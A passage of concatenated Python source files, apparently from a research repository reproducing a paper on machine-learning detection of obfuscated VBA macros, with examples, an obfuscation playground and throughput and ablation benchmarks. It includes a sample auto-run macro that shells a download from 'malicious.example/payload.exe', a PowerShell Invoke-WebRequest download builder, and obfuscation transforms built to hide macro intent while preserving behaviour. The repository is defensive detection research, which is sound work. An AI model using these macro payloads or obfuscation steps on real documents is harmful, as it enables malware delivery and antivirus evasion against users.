            f"-> {flag} (P = {macro.score:.3f})"
        )
    report = av.scan(record.sources)
    print(
        f"AV aggregate: {report.detections}/{report.total_vendors} vendors "
        f"flagged -> {report.verdict.value}"
    )


def main() -> None:
    rng = random.Random(2016)
    print("Training detector...")
    detector = ObfuscationDetector("RF").fit(*build_training_data())
    engine = AnalysisEngine.for_scan(detector)
    av = VirusTotalSim()

    records = engine.run_batch(
        [
            ("invoice_overdue.docm (phishing)", make_suspicious_attachment(rng)),
            ("budget_2016.xlsm (legitimate)", make_legitimate_workbook(rng)),
        ]
    )
    for record in records:
        triage(record, av)

    print(
        "\nNote how the obfuscated attachment evades most signature vendors "
        "(the in-between VirusTotal band) while the obfuscation detector "
        "flags it — the gap the paper's method fills."
    )


if __name__ == "__main__":
    main()
