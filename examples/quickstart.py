"""Quickstart: train an obfuscation detector and classify new macros.

Runs in a few seconds::

    python examples/quickstart.py
"""

from __future__ import annotations

import random

from repro import ObfuscationDetector
from repro.corpus.benign import generate_benign_module
from repro.corpus.malicious import generate_malicious_macro
from repro.obfuscation.pipeline import default_pipeline


def build_training_data(n_benign: int = 120, n_obfuscated: int = 60):
    """Generate labeled training macros (normal vs obfuscated)."""
    rng = random.Random(42)
    sources, labels = [], []
    for _ in range(n_benign):
        sources.append(generate_benign_module(rng, target_length=rng.randint(200, 8000)))
        labels.append(0)
    pipeline = default_pipeline()
    for index in range(n_obfuscated):
        plain = generate_malicious_macro(rng, rng.choice(("word", "excel")))
        sources.append(pipeline.run(plain, seed=index).source)
        labels.append(1)
    return sources, labels


def main() -> None:
    print("Generating training corpus...")
    sources, labels = build_training_data()

    print(f"Training MLP detector on {len(sources)} macros...")
    detector = ObfuscationDetector("MLP").fit(sources, labels)

    normal_macro = (
        "Sub UpdateTotals()\n"
        "    Dim lastRow As Long\n"
        "    lastRow = Cells(Rows.Count, 1).End(xlUp).Row\n"
        '    Range("B" & lastRow + 1).Formula = "=SUM(B2:B" & lastRow & ")"\n'
        "End Sub\n"
    )
    obfuscated_macro = default_pipeline().run(
        (
            "Sub Document_Open()\n"
            "    Dim u As String\n"
            '    u = "http://malicious.example/payload.exe"\n'
            "    Shell u, 0\n"
            "End Sub\n"
        ),
        seed=7,
    ).source

    for name, macro in (("normal", normal_macro), ("obfuscated", obfuscated_macro)):
        probability = detector.predict_proba([macro])[0][1]
        verdict = "OBFUSCATED" if detector.predict([macro])[0] else "normal"
        print(f"\n--- {name} sample ({len(macro)} chars) ---")
        print(f"verdict: {verdict}  (P(obfuscated) = {probability:.3f})")

    print("\nDone.")


if __name__ == "__main__":
    main()
