"""One-shot reproduction of the paper's evaluation (Section V).

Builds the synthetic corpus, runs the preprocessing pipeline, evaluates all
five classifiers on both feature sets with stratified CV, and prints every
table and figure next to the paper's published numbers.

Usage::

    python examples/reproduce_paper.py [scale] [folds]

``scale`` is the corpus size relative to the paper's 2,537 files (default
0.12 — about 300 files / 600 macros, a couple of minutes).  ``scale 1.0``
regenerates the full population (4,212 macros; expect a long run).
"""

from __future__ import annotations

import sys
import time

from repro.corpus.builder import CorpusBuilder, paper_profile
from repro.pipeline.dataset import DatasetBuilder
from repro.pipeline.experiment import ExperimentRunner
from repro.pipeline.reporting import (
    render_fig5,
    render_fig6,
    render_fig7,
    render_table2,
    render_table3,
    render_table5,
)


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 0.12
    folds = int(sys.argv[2]) if len(sys.argv) > 2 else 10

    started = time.time()
    print(f"Building corpus at scale {scale} (paper population x {scale})...")
    profile = paper_profile().scaled(scale) if scale < 1.0 else paper_profile()
    corpus = CorpusBuilder(profile, seed=2016).build()
    print(render_table2(corpus.summary()))

    print("\nExtracting and preprocessing macros (olevba-equivalent)...")
    dataset = DatasetBuilder().build(corpus.documents, corpus.truth)
    print(render_table3(dataset))

    normal_lengths = [len(s.source) for s in dataset.samples if not s.obfuscated]
    obfuscated_lengths = [len(s.source) for s in dataset.samples if s.obfuscated]
    print()
    print(render_fig5(normal_lengths, obfuscated_lengths))

    print(f"\nRunning {folds}-fold CV for 5 classifiers x 2 feature sets...")
    runner = ExperimentRunner(n_splits=folds)
    result = runner.run(dataset)

    print()
    print(render_table5(result))
    print()
    print(render_fig6(result))
    print()
    print(render_fig7(result))
    print(f"\ntotal wall time: {time.time() - started:.1f}s")


if __name__ == "__main__":
    main()
