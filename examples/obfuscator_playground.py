"""Obfuscation playground: apply each O1–O4 technique and *prove* semantics.

Shows every transform from the paper's Table I on the same macro and runs
both versions in the bundled VBA interpreter to demonstrate the defining
property of obfuscation: the behaviour is unchanged, only the text differs.

Run with::

    python examples/obfuscator_playground.py
"""

from __future__ import annotations

from repro.obfuscation.base import make_context
from repro.obfuscation.encode import StringEncoder
from repro.obfuscation.logic import DummyCodeInserter
from repro.obfuscation.pipeline import ObfuscationPipeline
from repro.obfuscation.rename import RandomRenamer
from repro.obfuscation.split import StringSplitter
from repro.vba.interpreter import Interpreter, run_function

# A pure-computation macro the interpreter can execute end to end.
MACRO = (
    "Function BuildCommand(host As String) As String\n"
    "    Dim scheme As String\n"
    "    Dim path As String\n"
    '    scheme = "http://"\n'
    '    path = "/downloads/update.exe"\n'
    '    BuildCommand = "powershell -c Invoke-WebRequest " & scheme & host & path\n'
    "End Function\n"
)

TRANSFORMS = (
    ("O1 random (rename identifiers)", RandomRenamer()),
    ("O2 split (divide strings)", StringSplitter()),
    ("O3 encoding (encode strings)", StringEncoder()),
    ("O4 logic (insert dummy code)", DummyCodeInserter()),
)


def entry_point_of(source: str) -> str:
    """Find the (possibly renamed) one-argument function to call."""
    interp = Interpreter.from_source(source)
    for name, proc in interp.module.procedures.items():
        if proc.kind == "function" and len(proc.params) == 1:
            return proc.name
    raise LookupError("no single-argument function found")


def main() -> None:
    expected = run_function(MACRO, "BuildCommand", "files.example.net")
    print("original macro:")
    print(MACRO)
    print(f"original result: {expected!r}\n")

    for title, transform in TRANSFORMS:
        out = transform.apply(MACRO, make_context(99))
        print("=" * 70)
        print(title)
        print("=" * 70)
        print(out[:900] + ("…\n" if len(out) > 900 else ""))
        got = run_function(out, entry_point_of(out), "files.example.net")
        status = "IDENTICAL" if got == expected else f"DIFFERS: {got!r}"
        print(f"interpreted result: {status}\n")
        assert got == expected

    print("=" * 70)
    print("full pipeline (O2 -> O3 -> O1 -> O4)")
    print("=" * 70)
    combined = ObfuscationPipeline(
        [StringSplitter(), StringEncoder(), RandomRenamer(), DummyCodeInserter()]
    ).run(MACRO, seed=5)
    print(f"{len(MACRO)} chars -> {len(combined.source)} chars")
    got = run_function(
        combined.source, entry_point_of(combined.source), "files.example.net"
    )
    print(f"interpreted result: {'IDENTICAL' if got == expected else 'DIFFERS'}")
    assert got == expected
    print("\nEvery transform preserved the macro's behaviour.")


if __name__ == "__main__":
    main()
