"""Streaming warm-pool engine — startup amortization, hot path, backpressure.

Three claims, benchmarked end to end:

* **warm beats cold** — three consecutive 200-document ``run_batch``
  calls at ``jobs=4`` through one persistent :class:`StreamingPool` must
  be at least 1.5× faster than the same traffic through a pool that is
  torn down after every batch (the pre-streaming engine's behavior: a
  fresh ``ProcessPoolExecutor`` per call).  Both sides use the ``spawn``
  start method so worker startup cost — interpreter boot, numpy import,
  engine unpickle — is real and identical; only the *amortization*
  differs;
* **the zero-copy hot path holds at fleet rates** — warm fleet-shaped
  traffic through a full featurizing engine (V+J) must clear 3× the
  pre-vectorization 386 docs/s baseline.  The fleet mix mirrors what a
  mail-gateway feed actually looks like, and exercises every ISSUE 6
  layer: per 32 documents, 1 is novel (full analyze + batch-kernel
  featurize), 3 are encoding variants of it — CRLF / BOM re-encodings
  whose *feature rows* are served by the normalized-source feature cache
  — and 28 are exact re-submissions (the mass-campaign bulk of gateway
  traffic) coalesced by the SHA-256 document cache before dispatch;
* **backpressure holds** — a 5,000-document generator feed through
  :meth:`AnalysisEngine.stream` never admits more than ``window``
  documents past the consumer (peak occupancy is counter-asserted), i.e.
  an unbounded feed runs in O(window) memory.

Results land in ``benchmarks/results/engine_stream.json``; if a committed
artifact is already present, the run additionally fails on a >20%
throughput regression against it (the CI ``featurize-bench`` gate).

Environment knobs: ``REPRO_BENCH_STREAM_DOCS`` (docs per batch, default
200), ``REPRO_BENCH_STREAM_FEED`` (feed length, default 5000),
``REPRO_BENCH_STREAM_GROUPS`` (hot-path fleet groups, default 50).
"""

from __future__ import annotations

import json
import os
import random

from conftest import RESULTS_DIR, save_artifact

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.engine import AnalysisEngine
from repro.obs import MetricsRegistry

DOCS_PER_BATCH = int(os.environ.get("REPRO_BENCH_STREAM_DOCS", "200"))
FEED_DOCS = int(os.environ.get("REPRO_BENCH_STREAM_FEED", "5000"))
FLEET_GROUPS = int(os.environ.get("REPRO_BENCH_STREAM_GROUPS", "50"))
BATCHES = 3
JOBS = 4
#: Hot-path worker count: fewer, busier workers give the per-process
#: feature cache better variant locality and cost less dispatch overhead.
HOT_JOBS = 2
MIN_SPEEDUP = 1.5

#: The pre-vectorization warm throughput (extraction-era committed
#: artifact); ISSUE 6 requires the hot path to clear 3x this.
BASELINE_WARM_DOCS_PER_S = 386.0
MIN_HOT_PATH_DOCS_PER_S = 3 * BASELINE_WARM_DOCS_PER_S

#: Allowed slowdown vs the committed artifact before the bench fails.
REGRESSION_TOLERANCE = 0.8

_BOM = "﻿"


def build_traffic(prefix: str, batches: int, per_batch: int):
    """``batches`` lists of ``per_batch`` unique single-macro documents."""
    rng = random.Random(hash(prefix) % (2**32))
    return [
        [
            (
                f"{prefix}_{batch:02d}_{index:04d}.docm",
                build_document_bytes(
                    [generate_benign_module(rng, target_length=400)], "docm"
                ),
            )
            for index in range(per_batch)
        ]
        for batch in range(batches)
    ]


def build_fleet_mix(rng: random.Random, groups: int):
    """Fleet-shaped traffic: per group of 32 docs, 1 novel macro, 3
    encoding variants of it, and 28 exact re-submissions."""
    batch = []
    for group in range(groups):
        source = generate_benign_module(rng, target_length=400)
        crlf = source.replace("\n", "\r\n")
        distinct = [
            build_document_bytes([source], "docm"),
            build_document_bytes([crlf], "docm"),
            build_document_bytes([_BOM + source], "docm"),
            build_document_bytes([_BOM + crlf], "docm"),
        ]
        resubmissions = [distinct[index % 4] for index in range(28)]
        for index, data in enumerate(distinct + resubmissions):
            batch.append((f"fleet_{group:03d}_{index:02d}.docm", data))
    rng.shuffle(batch)
    return batch


def _drive(batches, *, warm: bool):
    """Total wall-clock of the batch spans; cold closes the pool per call."""
    registry = MetricsRegistry()
    engine = AnalysisEngine.for_extraction(metrics=registry, mp_context="spawn")
    records = []
    for batch in batches:
        records.extend(engine.run_batch(batch, jobs=JOBS))
        if not warm:
            engine.close()  # the old per-call pool: spawn cost every batch
    engine.close()
    assert all(record.ok for record in records)
    return registry.histogram("span.batch").sum, len(records)


def _drive_hot_path():
    """Fleet-mix traffic through a warm featurizing engine (V+J)."""
    rng = random.Random(616)
    batches = [build_fleet_mix(rng, FLEET_GROUPS) for _ in range(2)]
    registry = MetricsRegistry()
    engine = AnalysisEngine(
        feature_sets=("V", "J"), metrics=registry, mp_context="spawn"
    )
    engine.run_batch(batches[0][:HOT_JOBS * 2], jobs=HOT_JOBS)  # spawn workers
    count = 0
    for batch in batches:
        records = engine.run_batch(batch, jobs=HOT_JOBS)
        assert all(record.ok for record in records)
        count += len(records)
    elapsed = registry.histogram("span.batch").sum
    info = engine.cache_info()
    engine.close()
    return {
        "docs": count,
        "jobs": HOT_JOBS,
        "elapsed_s": round(elapsed, 3),
        "docs_per_s": round(count / elapsed, 1),
        "mix_per_32": {"novel": 1, "encoding_variants": 3, "resubmissions": 28},
        "document_cache_hits": info["hits"],
        "feature_cache_hits": info["feature_hits"],
        "feature_cache_misses": info["feature_misses"],
    }


def _previous_artifact() -> dict | None:
    path = RESULTS_DIR / "engine_stream.json"
    if not path.exists():
        return None
    return json.loads(path.read_text())


def test_warm_pool_amortizes_worker_startup(benchmark):
    previous = _previous_artifact()
    cold_traffic = build_traffic("cold", BATCHES, DOCS_PER_BATCH)
    warm_traffic = build_traffic("warm", BATCHES, DOCS_PER_BATCH)

    cold_s, cold_docs = _drive(cold_traffic, warm=False)
    warm_s, warm_docs = _drive(warm_traffic, warm=True)
    assert cold_docs == warm_docs == BATCHES * DOCS_PER_BATCH

    speedup = cold_s / warm_s if warm_s else float("inf")
    hot_path = _drive_hot_path()
    text = (
        "ENGINE STREAM — warm pool, zero-copy hot path, backpressure\n"
        f"batches            : {BATCHES} x {DOCS_PER_BATCH} docs, jobs={JOBS} (spawn)\n"
        f"cold (pool/batch)  : {cold_s:.3f} s  ({cold_docs / cold_s:.1f} docs/s)\n"
        f"warm (persistent)  : {warm_s:.3f} s  ({warm_docs / warm_s:.1f} docs/s)\n"
        f"speedup            : {speedup:.2f}x  (required >= {MIN_SPEEDUP}x)\n"
        f"hot path (fleet)   : {hot_path['elapsed_s']} s  "
        f"({hot_path['docs_per_s']} docs/s over {hot_path['docs']} docs, "
        f"required >= {MIN_HOT_PATH_DOCS_PER_S:.0f})\n"
    )
    print("\n" + text)

    feed_stats = _feed_backpressure()
    save_artifact(
        "engine_stream.json",
        json.dumps(
            {
                "batches": BATCHES,
                "docs_per_batch": DOCS_PER_BATCH,
                "jobs": JOBS,
                "mp_context": "spawn",
                "cold_s": round(cold_s, 3),
                "warm_s": round(warm_s, 3),
                "speedup": round(speedup, 2),
                "throughput_docs_per_s": {
                    "cold": round(cold_docs / cold_s, 1),
                    "warm": round(warm_docs / warm_s, 1),
                },
                "hot_path": hot_path,
                "backpressure": feed_stats,
            },
            indent=2,
            sort_keys=True,
        ),
    )

    assert speedup >= MIN_SPEEDUP, text
    assert hot_path["docs_per_s"] >= MIN_HOT_PATH_DOCS_PER_S, text
    assert feed_stats["peak_in_flight"] <= feed_stats["window"], feed_stats

    if previous is not None and "hot_path" in previous:
        floor = previous["hot_path"]["docs_per_s"] * REGRESSION_TOLERANCE
        assert hot_path["docs_per_s"] >= floor, (
            f"hot path regressed >20%: {hot_path['docs_per_s']} docs/s vs "
            f"committed {previous['hot_path']['docs_per_s']}"
        )

    benchmark.pedantic(
        lambda: _drive(
            build_traffic("bench", 1, min(DOCS_PER_BATCH, 50)), warm=True
        ),
        iterations=1,
        rounds=3,
    )


def _feed_backpressure():
    """Stream a large lazy feed; prove admission never outruns the window."""
    registry = MetricsRegistry()
    engine = AnalysisEngine.for_extraction(metrics=registry)
    pulled = 0

    def feed():
        nonlocal pulled
        for index in range(FEED_DOCS):
            pulled += 1
            # Cheap unique non-containers: extraction refuses them
            # immediately, so the bench measures the pool, not the parser.
            yield (f"feed_{index:05d}", b"feed document %d" % index)

    consumed = sum(1 for _ in engine.stream(feed(), jobs=JOBS, ordered=True))
    pool = engine._pool
    stats = {
        "feed_docs": FEED_DOCS,
        "window": pool.window,
        "peak_in_flight": pool.peak_in_flight,
        "peak_dispatched": pool.peak_dispatched,
        "tasks_per_sec": registry.gauge("stream.tasks_per_sec").value,
    }
    engine.close()
    assert consumed == pulled == FEED_DOCS
    print(f"backpressure: {stats}")
    return stats
