"""Streaming warm-pool engine — amortized worker startup + backpressure.

Two claims, benchmarked end to end:

* **warm beats cold** — three consecutive 200-document ``run_batch``
  calls at ``jobs=4`` through one persistent :class:`StreamingPool` must
  be at least 1.5× faster than the same traffic through a pool that is
  torn down after every batch (the pre-streaming engine's behavior: a
  fresh ``ProcessPoolExecutor`` per call).  Both sides use the ``spawn``
  start method so worker startup cost — interpreter boot, numpy import,
  engine unpickle — is real and identical; only the *amortization*
  differs;
* **backpressure holds** — a 5,000-document generator feed through
  :meth:`AnalysisEngine.stream` never admits more than ``window``
  documents past the consumer (peak occupancy is counter-asserted), i.e.
  an unbounded feed runs in O(window) memory.

Results land in ``benchmarks/results/engine_stream.json``.

Environment knobs: ``REPRO_BENCH_STREAM_DOCS`` (docs per batch, default
200), ``REPRO_BENCH_STREAM_FEED`` (feed length, default 5000).
"""

from __future__ import annotations

import json
import os
import random

from conftest import save_artifact

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.engine import AnalysisEngine
from repro.obs import MetricsRegistry

DOCS_PER_BATCH = int(os.environ.get("REPRO_BENCH_STREAM_DOCS", "200"))
FEED_DOCS = int(os.environ.get("REPRO_BENCH_STREAM_FEED", "5000"))
BATCHES = 3
JOBS = 4
MIN_SPEEDUP = 1.5


def build_traffic(prefix: str, batches: int, per_batch: int):
    """``batches`` lists of ``per_batch`` unique single-macro documents."""
    rng = random.Random(hash(prefix) % (2**32))
    return [
        [
            (
                f"{prefix}_{batch:02d}_{index:04d}.docm",
                build_document_bytes(
                    [generate_benign_module(rng, target_length=400)], "docm"
                ),
            )
            for index in range(per_batch)
        ]
        for batch in range(batches)
    ]


def _drive(batches, *, warm: bool):
    """Total wall-clock of the batch spans; cold closes the pool per call."""
    registry = MetricsRegistry()
    engine = AnalysisEngine.for_extraction(metrics=registry, mp_context="spawn")
    records = []
    for batch in batches:
        records.extend(engine.run_batch(batch, jobs=JOBS))
        if not warm:
            engine.close()  # the old per-call pool: spawn cost every batch
    engine.close()
    assert all(record.ok for record in records)
    return registry.histogram("span.batch").sum, len(records)


def test_warm_pool_amortizes_worker_startup(benchmark):
    cold_traffic = build_traffic("cold", BATCHES, DOCS_PER_BATCH)
    warm_traffic = build_traffic("warm", BATCHES, DOCS_PER_BATCH)

    cold_s, cold_docs = _drive(cold_traffic, warm=False)
    warm_s, warm_docs = _drive(warm_traffic, warm=True)
    assert cold_docs == warm_docs == BATCHES * DOCS_PER_BATCH

    speedup = cold_s / warm_s if warm_s else float("inf")
    text = (
        "ENGINE STREAM — persistent warm pool vs pool-per-batch\n"
        f"batches            : {BATCHES} x {DOCS_PER_BATCH} docs, jobs={JOBS} (spawn)\n"
        f"cold (pool/batch)  : {cold_s:.3f} s  ({cold_docs / cold_s:.1f} docs/s)\n"
        f"warm (persistent)  : {warm_s:.3f} s  ({warm_docs / warm_s:.1f} docs/s)\n"
        f"speedup            : {speedup:.2f}x  (required >= {MIN_SPEEDUP}x)\n"
    )
    print("\n" + text)

    feed_stats = _feed_backpressure()
    save_artifact(
        "engine_stream.json",
        json.dumps(
            {
                "batches": BATCHES,
                "docs_per_batch": DOCS_PER_BATCH,
                "jobs": JOBS,
                "mp_context": "spawn",
                "cold_s": round(cold_s, 3),
                "warm_s": round(warm_s, 3),
                "speedup": round(speedup, 2),
                "throughput_docs_per_s": {
                    "cold": round(cold_docs / cold_s, 1),
                    "warm": round(warm_docs / warm_s, 1),
                },
                "backpressure": feed_stats,
            },
            indent=2,
            sort_keys=True,
        ),
    )

    assert speedup >= MIN_SPEEDUP, text
    assert feed_stats["peak_in_flight"] <= feed_stats["window"], feed_stats

    benchmark.pedantic(
        lambda: _drive(
            build_traffic("bench", 1, min(DOCS_PER_BATCH, 50)), warm=True
        ),
        iterations=1,
        rounds=3,
    )


def _feed_backpressure():
    """Stream a large lazy feed; prove admission never outruns the window."""
    registry = MetricsRegistry()
    engine = AnalysisEngine.for_extraction(metrics=registry)
    pulled = 0

    def feed():
        nonlocal pulled
        for index in range(FEED_DOCS):
            pulled += 1
            # Cheap unique non-containers: extraction refuses them
            # immediately, so the bench measures the pool, not the parser.
            yield (f"feed_{index:05d}", b"feed document %d" % index)

    consumed = sum(1 for _ in engine.stream(feed(), jobs=JOBS, ordered=True))
    pool = engine._pool
    stats = {
        "feed_docs": FEED_DOCS,
        "window": pool.window,
        "peak_in_flight": pool.peak_in_flight,
        "peak_dispatched": pool.peak_dispatched,
        "tasks_per_sec": registry.gauge("stream.tasks_per_sec").value,
    }
    engine.close()
    assert consumed == pulled == FEED_DOCS
    print(f"backpressure: {stats}")
    return stats
