"""Micro-benchmarks for the substrate layers.

Throughput of the pieces every experiment is built on: MS-OVBA codec,
compound-file write/read, macro extraction, VBA lexing, and V/J feature
extraction.
"""

from __future__ import annotations

import random

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.features.jfeatures import extract_j_features
from repro.features.vfeatures import extract_v_features
from repro.ole.compression import compress, decompress
from repro.ole.extractor import extract_macros
from repro.vba.lexer import tokenize

_RNG = random.Random(99)
SAMPLE_MODULE = generate_benign_module(_RNG, target_length=4000)
SAMPLE_BYTES = SAMPLE_MODULE.encode("latin-1", "replace")
SAMPLE_DOC = build_document_bytes([SAMPLE_MODULE], "doc")
COMPRESSED = compress(SAMPLE_BYTES)


def test_bench_ovba_compress(benchmark):
    result = benchmark(compress, SAMPLE_BYTES)
    assert decompress(result) == SAMPLE_BYTES


def test_bench_ovba_decompress(benchmark):
    result = benchmark(decompress, COMPRESSED)
    assert result == SAMPLE_BYTES


def test_bench_document_build(benchmark):
    blob = benchmark(build_document_bytes, [SAMPLE_MODULE], "doc")
    assert blob[:4] == b"\xd0\xcf\x11\xe0"


def test_bench_macro_extraction(benchmark):
    result = benchmark(extract_macros, SAMPLE_DOC)
    assert result.sources == [SAMPLE_MODULE]


def test_bench_lexer(benchmark):
    tokens = benchmark(tokenize, SAMPLE_MODULE)
    assert tokens[-1].kind.name == "EOF"


def test_bench_v_features(benchmark):
    vector = benchmark(extract_v_features, SAMPLE_MODULE)
    assert vector.shape == (15,)


def test_bench_j_features(benchmark):
    vector = benchmark(extract_j_features, SAMPLE_MODULE)
    assert vector.shape == (20,)
