"""Ablation — the paper's normalization choice (Section IV.C.4).

Aebersold et al. normalize count features by whole-script length; the paper
instead uses V1 (comment-free code length) as the normalization unit.  This
bench evaluates three V5 variants: raw count, per-total-length, and the
paper's per-V1, holding everything else fixed.
"""

from __future__ import annotations

import numpy as np
from conftest import BENCH_FOLDS, save_artifact

from repro.features.matrix import extract_features
from repro.ml.model_selection import cross_validate
from repro.pipeline.classifiers import make_classifier, preprocessor_for
from repro.vba.analyzer import analyze
from repro.vba.tokens import STRING_CONCAT_OPERATORS

V5_INDEX = 4  # V5_string_op_freq


def _variant_matrices(sources: list[str]) -> dict[str, np.ndarray]:
    base = extract_features(sources, "V")
    raw_counts = np.empty(len(sources))
    total_lengths = np.empty(len(sources))
    for i, source in enumerate(sources):
        analysis = analyze(source)
        raw_counts[i] = analysis.operator_count(STRING_CONCAT_OPERATORS)
        total_lengths[i] = max(1, len(source))
    per_v1 = base  # the paper's choice, as extracted
    raw = base.copy()
    raw[:, V5_INDEX] = raw_counts
    per_total = base.copy()
    per_total[:, V5_INDEX] = raw_counts / total_lengths
    return {"raw count": raw, "per total length": per_total, "per V1 (paper)": per_v1}


def _mlp_f2(X: np.ndarray, y: np.ndarray) -> float:
    cv = cross_validate(
        lambda: make_classifier("MLP", random_state=0),
        X,
        y,
        n_splits=min(BENCH_FOLDS, 5),
        random_state=0,
        preprocessor_factory=preprocessor_for("MLP"),
    )
    return cv.pooled_report["f2"]


def test_normalization_ablation(benchmark, dataset):
    variants = _variant_matrices(dataset.sources)
    y = dataset.labels
    lines = [
        "ABLATION: V5 normalization unit, MLP classifier",
        f"{'variant':<22} {'F2':>7}",
    ]
    scores = {}
    for name, X in variants.items():
        scores[name] = _mlp_f2(X, y)
        lines.append(f"{name:<22} {scores[name]:>7.3f}")
    text = "\n".join(lines)
    print("\n" + text)
    save_artifact("ablation_normalization.txt", text)

    # Normalized variants should not be materially worse than the raw
    # count (scale-free features generalize across macro sizes).
    assert scores["per V1 (paper)"] >= scores["raw count"] - 0.1

    X = variants["per V1 (paper)"]
    benchmark.pedantic(lambda: _mlp_f2(X, y), iterations=1, rounds=1)
