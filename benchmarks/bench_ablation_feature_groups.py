"""Ablation — contribution of each obfuscation-targeted feature group.

DESIGN.md §5: the V set bundles four groups (O1: V13–V15, O2: V5–V7,
O3: V8–V12, O4: V1–V4).  Dropping one group at a time and re-running the
RF classifier measures each group's marginal F₂ contribution.
"""

from __future__ import annotations

import numpy as np
from conftest import BENCH_FOLDS, save_artifact

from repro.features.matrix import extract_features
from repro.features.vfeatures import V_FEATURE_GROUPS
from repro.ml.model_selection import cross_validate
from repro.pipeline.classifiers import make_classifier


def _rf_f2(X: np.ndarray, y: np.ndarray) -> float:
    cv = cross_validate(
        lambda: make_classifier("RF", random_state=0),
        X,
        y,
        n_splits=min(BENCH_FOLDS, 5),
        random_state=0,
    )
    return cv.pooled_report["f2"]


def test_feature_group_ablation(benchmark, dataset):
    X = extract_features(dataset.sources, "V")
    y = dataset.labels
    baseline = _rf_f2(X, y)

    lines = [
        "ABLATION: drop one V feature group, RF classifier",
        f"{'variant':<22} {'F2':>7} {'delta':>8}",
        f"{'all 15 features':<22} {baseline:>7.3f} {0.0:>8.3f}",
    ]
    deltas = {}
    for group, indices in V_FEATURE_GROUPS.items():
        keep = [i for i in range(X.shape[1]) if i not in indices]
        f2 = _rf_f2(X[:, keep], y)
        deltas[group] = baseline - f2
        lines.append(
            f"{'without ' + group:<22} {f2:>7.3f} {f2 - baseline:>8.3f}"
        )
    text = "\n".join(lines)
    print("\n" + text)
    save_artifact("ablation_feature_groups.txt", text)

    # No single group's removal should break the detector completely: the
    # paper's premise is that the groups overlap in coverage.
    for group, delta in deltas.items():
        assert delta < 0.35, f"removing {group} collapsed the detector"

    benchmark.pedantic(lambda: _rf_f2(X, y), iterations=1, rounds=2)
