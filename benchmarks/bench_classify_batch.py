"""Batched classification kernel vs per-row scoring (ISSUE 10 tail layer).

PR 6 vectorized featurization; this bench pins down what batching the
*tail* of the pipeline buys.  ``ClassifyStage`` now flushes feature rows
through one :func:`~repro.pipeline.classifiers.proba_from_matrix` call
per micro-batch, where the old loop paid one Python round-trip into the
detector (preprocessor transform + model ``predict_proba`` on a
``(1, 15)`` row) per macro.  On a 5k-macro fleet mix:

* **kernel speedup** — one matrix call over all rows vs the same kernel
  driven one row at a time, for every one of the paper's classifiers.
  Bit-exact row parity is asserted inline (and, engine-level, by
  ``tests/engine/test_classify_batch.py``); this file asserts the speed;
* **fleet throughput** — rows/s through the batched kernel for the
  serving detector (MLP, the paper's best), the number that bounds what
  one worker's classify stage can absorb.

Results land in ``benchmarks/results/classify_batch.json``; if a
committed artifact is present the run fails on a >20% regression of the
batched throughput (the CI ``classify-bench`` gate).

Environment knobs: ``REPRO_BENCH_CLASSIFY_ROWS`` (fleet size, default
5000), ``REPRO_BENCH_CLASSIFY_UNIQUE`` (unique sources featurized to
seed the fleet, default 600).
"""

from __future__ import annotations

import json
import os
import random
import time

import numpy as np
from conftest import RESULTS_DIR, save_artifact

from repro import ObfuscationDetector
from repro.corpus.benign import generate_benign_module
from repro.corpus.malicious import generate_malicious_macro
from repro.features import extract_matrices
from repro.obfuscation.pipeline import default_pipeline
from repro.pipeline.classifiers import CLASSIFIER_ORDER, proba_from_matrix

ROWS = int(os.environ.get("REPRO_BENCH_CLASSIFY_ROWS", "5000"))
UNIQUE = int(os.environ.get("REPRO_BENCH_CLASSIFY_UNIQUE", "600"))
MIN_SPEEDUP = 2.0
REGRESSION_TOLERANCE = 0.8
#: The serving detector (paper's best classifier) whose batched
#: throughput the regression gate tracks.
SERVING = "MLP"


def build_sources(count: int) -> tuple[list[str], list[int]]:
    """Benign / malicious / obfuscated macro sources, 2:1:1."""
    rng = random.Random(35)
    pipeline = default_pipeline()
    benign = [
        generate_benign_module(rng, target_length=rng.randint(300, 2000))
        for _ in range(count // 2)
    ]
    malicious = [
        generate_malicious_macro(rng, "word") for _ in range(count // 4)
    ]
    obfuscated = [
        pipeline.run(generate_malicious_macro(rng, "word"), seed=seed).source
        for seed in range(count - len(benign) - len(malicious))
    ]
    sources = benign + malicious + obfuscated
    labels = [0] * len(benign) + [0] * len(malicious) + [1] * len(obfuscated)
    return sources, labels


def _fleet_rows(sources: list[str], rows: int) -> np.ndarray:
    """Tile the unique mix's V rows out to fleet size.

    Scoring cost depends on matrix shape, not row uniqueness, so a fleet
    of repeated real rows prices the kernel honestly without paying five
    thousand tokenizer passes in a classification bench.
    """
    unique = extract_matrices(sources, ("V",))["V"]
    repeats = -(-rows // unique.shape[0])
    return np.tile(unique, (repeats, 1))[:rows]


def _previous_artifact() -> dict | None:
    path = RESULTS_DIR / "classify_batch.json"
    if not path.exists():
        return None
    return json.loads(path.read_text())


def test_batch_kernel_beats_per_row_scoring(benchmark):
    previous = _previous_artifact()
    sources, labels = build_sources(UNIQUE)
    fleet = _fleet_rows(sources, ROWS)
    assert fleet.shape == (ROWS, 15)

    detectors = {
        name: ObfuscationDetector(name).fit(sources, labels)
        for name in CLASSIFIER_ORDER
    }

    per_classifier: dict[str, dict] = {}
    for name, detector in detectors.items():
        started = time.perf_counter()
        per_row = np.vstack(
            [
                proba_from_matrix(detector, fleet[index : index + 1])
                for index in range(ROWS)
            ]
        )
        per_row_s = time.perf_counter() - started

        started = time.perf_counter()
        batch = np.asarray(proba_from_matrix(detector, fleet))
        batch_s = time.perf_counter() - started

        # The parity the engine relies on: same rows, same bits.
        assert np.array_equal(per_row, batch), name
        per_classifier[name] = {
            "per_row_s": round(per_row_s, 4),
            "batch_s": round(batch_s, 4),
            "speedup": round(per_row_s / batch_s, 1) if batch_s else None,
            "batch_rows_per_s": round(ROWS / batch_s, 1),
        }

    serving = per_classifier[SERVING]
    worst = min(entry["speedup"] for entry in per_classifier.values())

    payload = {
        "rows": ROWS,
        "unique_sources": UNIQUE,
        "serving_classifier": SERVING,
        "per_classifier": per_classifier,
        "min_speedup": worst,
        "batch_rows_per_s": serving["batch_rows_per_s"],
    }
    lines = [
        "CLASSIFY BATCH — one matrix call vs per-row scoring",
        f"fleet               : {ROWS} rows "
        f"({UNIQUE} unique sources, 2:1:1 benign/malicious/obfuscated)",
    ]
    for name, entry in per_classifier.items():
        lines.append(
            f"{name:<4}                : per-row {entry['per_row_s']:.4f} s"
